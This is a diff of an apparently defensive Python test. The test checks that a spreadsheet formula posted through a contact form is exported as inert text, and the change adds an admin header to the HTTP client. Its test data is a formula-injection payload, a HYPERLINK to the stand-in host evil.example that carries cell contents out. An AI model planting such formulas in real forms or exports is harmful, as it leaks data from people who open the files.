@@ -22,7 +22,7 @@ async def test_formula_planted_in_a_form_post_is_text_in_the_campaign_export(
     e = stack.endpoints
     admin = {"Authorization": f"Bearer {e.admin_token}"}
     formula = f'=HYPERLINK("http://evil.example/?"&A1,"{uuid.uuid4().hex[:6]}")'
-    async with httpx.AsyncClient(timeout=30) as client:
+    async with httpx.AsyncClient(timeout=30, headers=admin) as client:  # reports need one
         form = await client.put(
             f"{e.intake}/v1/admin/forms/contact-us",
             headers=admin,
